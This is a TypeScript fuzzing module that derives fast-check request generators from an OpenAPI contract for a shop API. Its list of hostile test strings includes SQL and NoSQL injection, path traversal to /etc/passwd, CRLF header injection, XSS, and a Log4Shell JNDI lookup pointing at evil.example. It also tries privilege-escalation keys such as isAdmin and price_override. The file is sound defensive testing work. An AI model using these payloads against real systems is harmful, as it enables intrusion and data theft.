// fast-check arbitraries built from openapi.yaml, so the fuzzing suite follows the contract by
// itself: every operation, its parameters and its body schema come from the file. `validRequest`
// makes requests the contract admits (the server may still refuse them for a business rule);
// `invalidRequest` breaks exactly one thing in such a request, so the contract says it must be
// rejected.
import fc from 'fast-check';
import type { Contract } from '../../src/contract.js';
import { deref, methods, type OperationObject, type Parameter, type Schema } from './contract-schemas.js';

export interface Operation {
  operationId: string;
  method: 'get' | 'post' | 'put' | 'patch' | 'delete';
  /** The contract's path template, e.g. `/products/{id}`. */
  path: string;
  parameters: Parameter[];
  body: Schema | undefined;
  security: Array<Record<string, string[]>>;
}

export interface FuzzRequest {
  path: Record<string, string>;
  /** An array sends the parameter once per value. */
  query: Record<string, string | string[]>;
  headers: Record<string, string>;
  /** `undefined` sends no body at all. */
  body: unknown;
  /** What an invalid request breaks, so a counterexample reads as a sentence. */
  broke?: string;
}

/** Real values for a format (ids of existing products, emails of signed-in users): random ones only ever reach 404s. */
export type Known = Partial<Record<string, string[]>>;

type Location = 'body' | 'text';

export function operationsOf(contract: Contract): Operation[] {
  const resolveNode = <T>(node: T): T => deref(contract, node as T & { $ref?: string });
  return Object.entries(contract.paths).flatMap(([path, item]) => {
    const shared = ((item as { parameters?: Parameter[] }).parameters ?? []).map(resolveNode);
    return methods.flatMap((method) => {
      const operation = item[method] as OperationObject | undefined;
      if (!operation) return [];
      const own = (operation.parameters ?? []).map(resolveNode);
      const body = operation.requestBody?.content?.['application/json']?.schema;
      return [
        {
          operationId: operation.operationId ?? `${method} ${path}`,
          method,
          path,
          parameters: [...shared.filter((p) => !own.some((o) => o.name === p.name && o.in === p.in)), ...own],
          body: body && deref(contract, body),
          security: operation.security ?? contract.security,
        },
      ];
    });
  });
}

// Strings that have broken shops before: SQL and NoSQL injection, path traversal, template and
// log injection, NUL and control characters, lookalike and right-to-left unicode, numbers that
// JavaScript parses into something odd.
const hostile = [
  "' OR '1'='1",
  "1; DROP TABLE products; --",
  '%27%20OR%201=1',
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '/dev/null',
  'file:///etc/passwd',
  '\u0000',
  'nul\u0000byte',
  '\r\nSet-Cookie: admin=1',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/x}',
  '{{7*7}}',
  '%s%s%s%n',
  '\u202Eevil\u202C',
  '\uFEFF',
  'ＳＥＬＥＣＴ',
  '𝕳𝖆𝖒𝖒𝖊𝖗 🔨',
  'Zalgơ̵̢̖̗̘̙̜̝̞̟̠',
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  '9007199254740993',
  'true',
  'null',
  'undefined',
  '[]',
  '{"$gt": ""}',
  '__proto__',
  'constructor',
  ' ',
  '\t\n',
];

const prototypeKeys = ['__proto__', 'constructor', 'prototype'];
// Names a client might add to gain something (a role, a price); each is unknown to every schema.
const extraKeys = [...prototypeKeys, 'role', 'isAdmin', 'paid', 'price_override', 'userId', 'where', '$where'];

const formats: Record<string, { arbitrary: fc.Arbitrary<string>; test: RegExp }> = {
  uuid: { arbitrary: fc.uuid(), test: /^[0-9a-f]{8}-(?:[0-9a-f]{4}-){3}[0-9a-f]{12}$/i },
  email: { arbitrary: fc.emailAddress(), test: /^[^\s@]+@[^\s@]+\.[^\s@]+$/ },
  'date-time': { arbitrary: fc.date({ noInvalidDate: true }).map((date) => date.toISOString()), test: /^\d{4}-\d\d-\d\dT/ },
  uri: { arbitrary: fc.webUrl(), test: /^[a-z][a-z0-9+.-]*:/i },
};

const typesOf = (schema: Schema): string[] | undefined =>
  schema.type === undefined ? (schema.properties ? ['object'] : undefined) : [schema.type].flat();

const lengthOk = (schema: Schema) => (text: string) =>
  [...text].length >= (schema.minLength ?? 0) && [...text].length <= (schema.maxLength ?? Infinity);

function validString(schema: Schema, known: Known): fc.Arbitrary<string> {
  const fits = lengthOk(schema);
  if (schema.enum) return fc.constantFrom(...(schema.enum as string[]));
  if (schema.format && formats[schema.format]) {
    const real = known[schema.format] ?? [];
    const random = formats[schema.format]!.arbitrary.filter(fits);
    // Ids and emails compare case-insensitively in the contract's formats; the databases may not.
    return real.length > 0 ? fc.oneof(random, fc.constantFrom(...real), fc.mixedCase(fc.constantFrom(...real))) : random;
  }
  // Anchored patterns shape the whole string; loose ones (`\S`) only ask for one character.
  if (schema.pattern?.startsWith('^')) {
    return fc.stringMatching(new RegExp(schema.pattern), { maxLength: schema.maxLength }).filter(fits);
  }
  const min = schema.minLength ?? 0;
  const max = Math.min(schema.maxLength ?? 64, min + 64);
  // Any code point (control characters and NUL included) but mostly printable text: the server
  // refuses NUL outright, so too many of them would keep requests from going any deeper.
  const text = fc
    .oneof(
      { arbitrary: fc.string({ unit: 'grapheme-composite', minLength: min, maxLength: max }), weight: 3 },
      { arbitrary: fc.constantFrom(...hostile), weight: 2 },
      { arbitrary: fc.string({ unit: 'binary', minLength: min, maxLength: max }), weight: 1 },
      // The longest the contract allows.
      { arbitrary: fc.constantFrom('é', 'x', '🔨').map((unit) => unit.repeat(schema.maxLength ?? 1000)), weight: 1 },
    )
    .filter(fits);
  return schema.pattern ? text.filter((value) => new RegExp(schema.pattern!).test(value)) : text;
}

function validNumber(schema: Schema, integer: boolean): fc.Arbitrary<number> {
  const min = schema.exclusiveMinimum ?? schema.minimum;
  const max = schema.exclusiveMaximum ?? schema.maximum;
  if (integer) {
    return fc.integer({
      min: min === undefined ? undefined : schema.exclusiveMinimum !== undefined ? min + 1 : min,
      max: max === undefined ? undefined : schema.exclusiveMaximum !== undefined ? max - 1 : max,
    });
  }
  const bounds = { min, max, minExcluded: schema.exclusiveMinimum !== undefined, maxExcluded: schema.exclusiveMaximum !== undefined };
  return fc.oneof(
    fc.double({ ...bounds, noNaN: true, noDefaultInfinity: true }),
    // Prices are usually in cents; whole-cent values reach code paths that tiny doubles never do.
    fc
      .integer({ min: Math.ceil((min ?? -1e6) * 100), max: Math.floor((max ?? 1e6) * 100) })
      .map((cents) => cents / 100)
      .filter((value) => (min === undefined || value > min || (value === min && !bounds.minExcluded)) && (max === undefined || value <= max)),
  );
}

export function validValue(schema: Schema, contract: Contract, known: Known = {}): fc.Arbitrary<unknown> {
  const s = deref(contract, schema);
  if (s.enum) return fc.constantFrom(...s.enum);
  const types = typesOf(s);
  if (!types) return fc.jsonValue({ maxDepth: 2 });
  return fc.oneof(
    ...types.map((type): fc.Arbitrary<unknown> => {
      switch (type) {
        case 'string':
          return validString(s, known);
        case 'integer':
        case 'number':
          return validNumber(s, type === 'integer');
        case 'boolean':
          return fc.boolean();
        case 'null':
          return fc.constant(null);
        case 'array':
          return fc.array(validValue(s.items ?? {}, contract, known), { minLength: s.minItems ?? 0, maxLength: Math.min(s.maxItems ?? 5, 5) });
        default:
          return validObject(s, contract, known);
      }
    }),
  );
}

function validObject(schema: Schema, contract: Contract, known: Known): fc.Arbitrary<Record<string, unknown>> {
  const properties = Object.fromEntries(Object.entries(schema.properties ?? {}).map(([key, value]) => [key, validValue(value, contract, known)]));
  const declared = fc.record(properties, { requiredKeys: schema.required ?? [] });
  const open = schema.additionalProperties !== false;
  const object = open
    ? fc.tuple(fc.dictionary(fc.stringMatching(/^[a-z][a-zA-Z0-9]{0,11}$/), fc.jsonValue({ maxDepth: 2 }), { maxKeys: 3 }), declared).map(([extra, own]) => ({ ...extra, ...own }))
    : declared;
  return object.filter((value) => Object.keys(value).length >= (schema.minProperties ?? 0));
}

/** Values that break `schema`; in `text` (path, query, header) they are the strings sent. */
export function invalidValue(schema: Schema, contract: Contract, location: Location = 'body'): fc.Arbitrary<unknown> | undefined {
  const s = deref(contract, schema);
  const types = typesOf(s) ?? [];
  const options: Array<fc.Arbitrary<unknown>> = [];
  const has = (type: string) => types.includes(type);
  const numeric = has('integer') || has('number');

  if (location === 'body') {
    options.push(...wrongTypes(types));
  } else if (numeric || has('boolean')) {
    options.push(fc.constantFrom('abc', 'NaN', 'yes', '1,5', '0x', "1' OR '1'='1", '../1', '１２'));
  }
  if (s.enum) options.push(fc.constantFrom(...hostile, 'NEWEST', 'admin ').filter((value) => !s.enum!.includes(value)));

  if (has('string') && !s.enum) {
    if (s.maxLength !== undefined) {
      options.push(fc.integer({ min: s.maxLength + 1, max: s.maxLength + 64 }).map((n) => 'x'.repeat(n)));
      options.push(fc.constant('\u{1F528}'.repeat(s.maxLength + 1)));
    }
    if ((s.minLength ?? 0) > (location === 'text' ? 1 : 0)) options.push(fc.constant('y'.repeat(s.minLength! - 1)));
    const rules = [s.pattern && new RegExp(s.pattern), s.format && formats[s.format]?.test].filter((rule): rule is RegExp => !!rule);
    if (rules.length > 0) options.push(fc.constantFrom(...hostile).filter((value) => rules.some((rule) => !rule.test(value))));
  }

  if (numeric) {
    const min = s.exclusiveMinimum ?? s.minimum;
    const max = s.exclusiveMaximum ?? s.maximum;
    const tooSmall = (n: number) => min !== undefined && (n < min || (n === min && s.exclusiveMinimum !== undefined));
    const tooBig = (n: number) => max !== undefined && (n > max || (n === max && s.exclusiveMaximum !== undefined));
    const fractional = (n: number) => !has('number') && !Number.isInteger(n);
    const candidates = [1e308, -1e308, -Number.MAX_VALUE, Number.MAX_SAFE_INTEGER + 2, 1.5, (min ?? 0) + 0.001];
    if (min !== undefined) candidates.push(min, min - 1, min - 0.5);
    if (max !== undefined) candidates.push(max, max + 1, max + 1e-9 * Math.max(1, max), max * 1000);
    const outside = candidates.filter((n) => tooSmall(n) || tooBig(n) || fractional(n));
    if (outside.length > 0) options.push(fc.constantFrom(...outside).map((n) => (location === 'text' ? String(n) : n)));
  }

  if (has('object') && location === 'body') options.push(...invalidObjects(s, contract));
  if (has('array') && location === 'body') {
    if (s.maxItems !== undefined) options.push(fc.array(validValue(s.items ?? {}, contract), { minLength: s.maxItems + 1, maxLength: s.maxItems + 1 }));
    const item = s.items && invalidValue(s.items, contract);
    if (item) options.push(fc.tuple(item).map(([value]) => [value]));
  }
  return options.length > 0 ? fc.oneof(...options) : undefined;
}

/** JSON values of every type the schema doesn't allow, numbers written as strings among them. */
function wrongTypes(types: string[]): Array<fc.Arbitrary<unknown>> {
  if (types.length === 0) return [];
  const has = (type: string) => types.includes(type);
  const candidates: Array<[boolean, fc.Arbitrary<unknown>]> = [
    [!has('string'), fc.constantFrom('12', '1e309', 'NaN', 'Infinity', '-0', '', "' OR 1=1 --", '../../etc/passwd')],
    [!has('number') && !has('integer'), fc.constantFrom(0, -1, 42, 1e21)],
    [!has('number'), fc.constantFrom(1.5, -0.01, 1e-300)],
    [!has('boolean'), fc.boolean()],
    [!has('null'), fc.constant(null)],
    [!has('array'), fc.constantFrom([], ['x'], [{}])],
    [!has('object'), fc.constantFrom({}, { $gt: '' }, { toString: 'x' })],
  ];
  return candidates.filter(([wrong]) => wrong).map(([, arbitrary]) => arbitrary);
}

function invalidObjects(schema: Schema, contract: Contract): Array<fc.Arbitrary<unknown>> {
  const base = validObject(schema, contract, {});
  const options: Array<fc.Arbitrary<unknown>> = [];
  const required = schema.required ?? [];
  if (required.length > 0) {
    options.push(fc.tuple(base, fc.constantFrom(...required)).map(([value, key]) => omit(value, key)));
  }
  if (schema.additionalProperties === false) {
    options.push(
      fc.tuple(base, fc.constantFrom(...extraKeys), fc.jsonValue({ maxDepth: 2 })).map(([value, key, extra]) => withOwn(value, key, extra)),
    );
  }
  if ((schema.minProperties ?? 0) > 0) options.push(fc.constant({}));
  for (const [key, property] of Object.entries(schema.properties ?? {})) {
    const broken = invalidValue(property, contract);
    if (broken) options.push(fc.tuple(base, broken).map(([value, bad]) => withOwn(value, key, bad)));
  }
  return options;
}

const omit = (value: Record<string, unknown>, key: string) => Object.fromEntries(Object.entries(value).filter(([k]) => k !== key));

/** Sets an own property even for `__proto__`, so JSON.stringify sends it as a key. */
function withOwn(value: Record<string, unknown>, key: string, extra: unknown): Record<string, unknown> {
  const copy = { ...value };
  Object.defineProperty(copy, key, { value: extra, enumerable: true, writable: true, configurable: true });
  return copy;
}

const asText = (value: unknown): string => (typeof value === 'string' ? value : JSON.stringify(value));

/** A request the contract admits: every required parameter, some optional ones, a valid body. */
export function validRequest(operation: Operation, contract: Contract, known: Known = {}): fc.Arbitrary<FuzzRequest> {
  const params = (where: Parameter['in']) => {
    const list = operation.parameters.filter((p) => p.in === where);
    const record = Object.fromEntries(list.map((p) => [p.name, validValue(p.schema, contract, known).map(asText)]));
    return fc.record(record, { requiredKeys: list.filter((p) => p.required).map((p) => p.name) });
  };
  return fc.record({
    path: params('path') as fc.Arbitrary<Record<string, string>>,
    query: params('query') as fc.Arbitrary<Record<string, string>>,
    headers: params('header').map(printable),
    body: operation.body ? validValue(operation.body, contract, known) : fc.constant(undefined),
  });
}

/** A valid request with exactly one thing broken: a parameter, an unknown parameter or the body. */
export function invalidRequest(operation: Operation, contract: Contract, known: Known = {}): fc.Arbitrary<FuzzRequest> {
  type Breakage = fc.Arbitrary<(request: FuzzRequest) => FuzzRequest>;
  const breakages: Breakage[] = [];
  const set = (where: 'path' | 'query' | 'headers', name: string, value: string | string[] | undefined, broke: string) => (request: FuzzRequest) => {
    const part: Record<string, unknown> = { ...request[where] };
    delete part[name];
    const changed = value === undefined ? part : withOwn(part, name, value);
    return { ...request, [where]: where === 'headers' ? printable(changed as Record<string, string>) : changed, broke };
  };

  for (const parameter of operation.parameters) {
    const where = parameter.in === 'header' ? 'headers' : parameter.in === 'cookie' ? undefined : parameter.in;
    if (!where) continue;
    const broken = invalidValue(parameter.schema, contract, 'text');
    // An empty path segment would address another route, not break this one.
    const usable = broken && (where === 'path' ? broken.filter((value) => value !== '') : broken);
    if (usable) breakages.push(usable.map((value) => set(where, parameter.name, asText(value), `${parameter.in} ${parameter.name}`)));
    if (parameter.required && where !== 'path') breakages.push(fc.constant(set(where, parameter.name, undefined, `missing ${parameter.in} ${parameter.name}`)));
    if (where === 'query') {
      breakages.push(
        fc
          .tuple(validValue(parameter.schema, contract, known), validValue(parameter.schema, contract, known))
          .map((values) => set('query', parameter.name, values.map(asText), `repeated query ${parameter.name}`)),
      );
    }
  }
  breakages.push(
    fc
      .tuple(fc.constantFrom(...extraKeys, 'limit[$gt]', 'sort[]'), fc.string({ maxLength: 10 }))
      .filter(([name]) => !operation.parameters.some((p) => p.in === 'query' && p.name === name))
      .map(([name, value]) => set('query', name, value, `unknown query ${name}`)),
  );
  if (operation.body) {
    const broken = invalidValue(operation.body, contract);
    if (broken) breakages.push(broken.map((body) => (request: FuzzRequest) => ({ ...request, body, broke: 'body' })));
    breakages.push(fc.constant((request: FuzzRequest) => ({ ...request, body: undefined, broke: 'missing body' })));
  }
  return fc.tuple(validRequest(operation, contract, known), fc.oneof(...breakages)).map(([request, breakIt]) => breakIt(request));
}

/** Node's HTTP client refuses control and non-Latin characters in headers before they are sent. */
function printable(headers: Record<string, string | undefined>): Record<string, string> {
  return Object.fromEntries(
    Object.entries(headers).flatMap(([name, value]) => (value === undefined ? [] : [[name, value.replace(/[^\x20-\x7e]/g, '?')]])),
  );
}
